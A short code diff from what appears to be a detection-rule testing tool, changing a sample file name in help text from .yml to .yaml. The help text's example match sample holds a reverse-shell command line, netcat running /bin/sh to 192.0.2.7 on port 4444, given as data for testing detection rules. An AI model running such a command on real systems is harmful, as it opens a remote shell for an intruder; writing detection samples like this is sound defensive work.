@@ -38,7 +38,7 @@ export function rulesTestCommand(
 }
 
 const help = `
-The samples of my-rule.yml stand in my-rule.samples.yml:
+The samples of my-rule.yml stand in my-rule.samples.yaml:
   matches:
     - name: a shell on a socket
       fields: {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.7 4444}
